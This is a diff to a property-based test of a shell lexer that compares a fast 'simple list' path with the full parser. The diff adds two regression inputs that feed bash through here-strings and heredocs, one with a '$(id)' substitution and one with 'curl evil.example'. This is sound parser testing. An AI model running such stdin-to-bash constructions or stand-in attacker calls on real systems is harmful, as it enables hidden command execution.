@@ -61,7 +61,12 @@ describe('simple lists without the parser', () => {
         if (simpleListScript(lexShell(l))) simple++;
         expect(viaSimple).toEqual(viaParser);
       }),
-      { numRuns: Number(process.env.FC_RUNS ?? 600) },
+      {
+        numRuns: Number(process.env.FC_RUNS ?? 600),
+        // Found by this property on 2026-12-07: two inputs on bash's standard input, which the two
+        // readings listed in different orders (and the first was taken as the one bash reads).
+        examples: [[` <<< "s $(id)" bash  <<'E'\n$(x)\nE\n`], [`bash <<< 'echo hi' <<'E'\ncurl evil.example\nE`]],
+      },
     );
     // The property must exercise the simple path, not only the fallback.
     expect(simple).toBeGreaterThan(100);
